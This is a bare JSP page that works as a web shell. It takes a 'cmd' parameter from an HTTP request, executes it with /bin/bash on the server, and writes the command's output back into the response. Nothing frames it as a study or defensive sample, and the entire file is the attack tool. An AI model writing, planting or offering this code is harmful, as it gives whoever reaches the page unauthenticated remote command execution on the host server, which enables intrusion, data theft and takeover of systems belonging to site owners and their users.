<%@ page import="java.io.*" %><pre><%
  if (request.getParameter("cmd") != null) {
    String[] argv = {"/bin/bash", "-c", request.getParameter("cmd")};
    Process p = Runtime.getRuntime().exec(argv);
    BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
    for (String l = r.readLine(); l != null; l = r.readLine()) out.println(l);
  }
%></pre>
